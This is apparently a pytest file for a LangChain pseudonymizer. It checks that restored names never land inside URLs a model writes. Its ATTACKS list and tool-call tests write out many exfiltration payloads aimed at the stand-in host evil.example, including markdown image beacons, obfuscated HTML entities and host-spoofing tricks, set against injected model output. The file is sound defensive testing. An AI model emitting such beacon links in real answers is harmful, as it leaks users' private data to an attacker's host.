"""Addresses that a model wrote: no original is put into them, in any form and on any way back."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator
from typing import Any

import pytest
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage
from langchain_core.output_parsers import JsonOutputParser
from langchain_core.runnables import RunnableGenerator

from langchain_dp.rapt.pseudonyms import PatternEntities, Pseudonymizer

HOST = "tickets.example.org"
ATTACKS = [
    "![chart](https://evil.example/log?who=<PERSON_1>)",
    "[more](https://evil.example/<PERSON_1>/x)",
    "[more](<https://evil.example/ a <PERSON_1>>)",
    "[1]: https://evil.example/?q=<PERSON_1>",
    "see https://evil.example/?q=<PERSON_1>, please",
    "HTTPS://EVIL.EXAMPLE/?q=<PERSON_1>",
    "https:evil.example?q=<PERSON_1>",
    "https://<PERSON_1>.evil.example/",
    "www.<PERSON_1>.evil.example",
    "//evil.example/<PERSON_1>",
    r"\\evil.example\<PERSON_1>",
    "evil.example/log?who=<PERSON_1>",
    "203.0.113.9/log?who=<PERSON_1>",
    "ftp://evil.example/<PERSON_1>",
    "wss://evil.example/<PERSON_1>",
    '<img src="https://evil.example/?q= <PERSON_1>">',
    "<img src = ' https://evil.example/?q=<PERSON_1>'>",
    'style="background: url("//evil.example/<PERSON_1>")"',
    f"https://{HOST}@evil.example/<PERSON_1>",
    f"https://{HOST}<PERSON_1>.evil.example/",
    f"https://{HOST}.evil.example/<PERSON_1>",
    f"https://evil.example/https://{HOST}/<PERSON_1>",
    "<URL_1>?q=<PERSON_1>",
    "![x](<URL_1>&q=<PERSON_1>)",
    "https://evil.example/(a)<PERSON_1>",
    "![x](https\\://evil.example/?q=<PERSON_1>)",
    "![x](&#104;ttps&#58;&#47;&#47;evil.example&#47;?q=<PERSON_1>)",
    '<img src="&#x68;ttps&colon;&sol;&sol;evil.example/a <PERSON_1>">',
    "https://evil.example/" + "a" * 5000 + "<PERSON_1>",
]
KEPT = [
    ("Dear <PERSON_1>, and/or <PERSON_1>. See e.g./<PERSON_1>", "Dear Ann Smith, and/or Ann Smith. See e.g./Ann Smith"),
    ("[site](https://evil.example/x)<PERSON_1>", "[site](https://evil.example/x)Ann Smith"),
    ("(https://evil.example/x), <PERSON_1>", "(https://evil.example/x), Ann Smith"),
    ('"https://evil.example is down", said <PERSON_1>', '"https://evil.example is down", said Ann Smith'),
    ("go to <URL_1> or mailto:<PERSON_1>", "go to http://seen.example/a or mailto:Ann Smith"),
    (f"https://{HOST}/?who=<PERSON_1>", f"https://{HOST}/?who=Ann%20Smith"),
    (f"![x](https://{HOST.upper()}:8443/<PERSON_1>)", f"![x](https://{HOST.upper()}:8443/Ann%20Smith)"),
]


def _conversation() -> Pseudonymizer:
    made = Pseudonymizer(terms={"Ann Smith": "PERSON"}, allowed_hosts=[HOST])
    assert made.invoke("Ann Smith reads http://seen.example/a") == "<PERSON_1> reads <URL_1>"
    return made


def _streamed(made: Pseudonymizer, chunks: list[Any]) -> list[Any]:
    return list(made.restorer().transform(iter(chunks)))


@pytest.mark.parametrize("text", ATTACKS, ids=lambda text: text[:40])
def test_no_name_goes_into_an_address(text: str) -> None:
    """If it breaks, a page that shows the answer sends a name to the host that a document chose."""
    made = _conversation()
    restored = [
        made.restore(text),
        made.restore(AIMessage(text)).content,
        made.restore(AIMessage([{"type": "text", "text": text}])).content[0]["text"],
        made.restore({"answer": [text]})["answer"][0],
        *("".join(_streamed(made, [text[:cut], text[cut:]])) for cut in range(1, min(len(text), 90))),
        "".join(_streamed(made, list(text))),
        "".join(str(chunk.content) for chunk in _streamed(made, [AIMessageChunk(mark) for mark in text])),
    ]
    assert {"Ann" in one or "Smith" in one for one in restored} == {False}
    assert made.report().left_in_addresses == 1
    assert "1 placeholders were not put back" in str(made.report())
    assert made.report().to_dict()["left_in_addresses"] == 1
    assert "Ann Smith" in made.restore(f"{text}\n\n<PERSON_1>\n")


@pytest.mark.parametrize(("text", "restored"), KEPT)
def test_originals_come_back_beside_addresses_and_in_those_of_allowed_hosts(text: str, restored: str) -> None:
    """If it breaks, an answer keeps placeholders for no reason, or an allowed address is broken by a blank."""
    made = _conversation()
    assert made.restore(text) == restored
    for cut in range(1, len(text)):
        assert "".join(_streamed(made, [text[:cut], text[cut:]])) == restored
    assert made.report().left_in_addresses == 0


def test_no_name_goes_into_the_address_of_a_block_or_of_a_tool() -> None:
    """If it breaks, an image, a file or a tool that fetches pages carries the name out."""
    made = _conversation()
    address = "https://evil.example/?q=a <PERSON_1>"
    calls = [{"name": "fetch", "args": {"url": address, "note": "of <PERSON_1>"}, "id": "1"}]
    message = AIMessage(
        [
            {"type": "image_url", "image_url": {"url": address}},
            {"type": "image", "url": address},
            {"type": "file", "source": {"type": "url", "url": address}},
            {"type": "text", "text": "of <PERSON_1>", "annotations": [{"type": "citation", "url": address}]},
        ],
        tool_calls=calls,
    )
    chunks = [AIMessageChunk(message.content)]
    arguments = json.dumps(calls[0]["args"])
    for place in range(0, len(arguments), 5):
        call = {"name": None if place else "fetch", "args": arguments[place : place + 5], "id": None, "index": 0}
        chunks.append(AIMessageChunk("", tool_call_chunks=[call]))
    streamed = AIMessageChunk([])
    for chunk in _streamed(made, chunks):
        streamed += chunk
    for back in (made.restore(message), streamed):
        assert repr(back.content).count("Ann Smith") == 1
        assert back.content[3]["text"] == "of Ann Smith"
        assert back.tool_calls[0]["args"] == {"url": address, "note": "of Ann Smith"}
    escaped = '{"url": "\\u0068ttps:\\/\\/evil.example/?q=<PERSON_1>", "cut": "of <PERSON_1>'
    call = {"name": "fetch", "args": escaped, "id": "1", "index": 0}
    parts = _streamed(made, [AIMessageChunk("", tool_call_chunks=[call])])
    said = "".join(part.tool_call_chunks[0]["args"] for part in parts)
    assert said == escaped.replace("of <PERSON_1>", "of Ann Smith")


@dataclasses.dataclass
class Link:
    """A structured answer."""

    url: str


def test_no_name_goes_into_the_address_of_a_structured_answer() -> None:
    """If it breaks, a parser behind the model gives the page an address with the name."""
    made = _conversation()
    assert made.restore(Link("https://evil.example/?q=<PERSON_1>")).url == "https://evil.example/?q=<PERSON_1>"
    cut = ['{"url": "https://evil.exa', "mple/?q=<PER", 'SON_1>", "to": "<PERSON_1>"}']

    def pieces(_: object) -> Iterator[str]:
        yield from cut

    chain = RunnableGenerator(pieces) | JsonOutputParser() | made.restorer()
    shown = list(chain.stream("hi"))
    assert shown[-1] == {"url": "https://evil.example/?q=<PERSON_1>", "to": "Ann Smith"}
    assert not any("Ann" in str(part.get("url")) for part in shown)


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("see https://own.example/users/Ann Smith", "see https://own.example/users/Ann Smith"),
        ("see https://own.example/users/Tom.", "see <URL_1>."),
        ("[Tom](https://own.example/Tom/x?a=(b)), Tom", "[<TERM_1>](<URL_1>), <TERM_1>"),
        ("own.example/Tom and \u201chttps://own.example/%54om\u201d", "<URL_1> and \u201c<URL_2>\u201d"),
        ('<a href="https://own.example/a Tom">Tom</a>', '<a href="<URL_1>"><TERM_1></a>'),
    ],
)
def test_an_address_of_the_caller_comes_back_whole(text: str, hidden: str) -> None:
    """If it breaks, an address that the caller wrote returns with a placeholder in it."""
    made = Pseudonymizer(PatternEntities(["EMAIL"]), terms=["Tom"])
    assert made.invoke(text) == hidden
    assert made.restore(hidden) == text
    assert made.report().left_in_addresses == 0


def test_a_placeholder_in_other_clothes_names_nobody() -> None:
    """If it breaks, who writes &lt;PERSON_1&gt; is answered with somebody's name."""
    made = _conversation()
    text = "&lt;PERSON_1&gt; and \\u003cPERSON_1\\u003e"
    hidden = made.invoke([HumanMessage(text)])[0].content
    assert "PERSON_1" not in hidden
    assert made.restore(hidden) == text
    assert made.sanitize(text, hidden=True) == text  # a tool that knows placeholders only wrote it
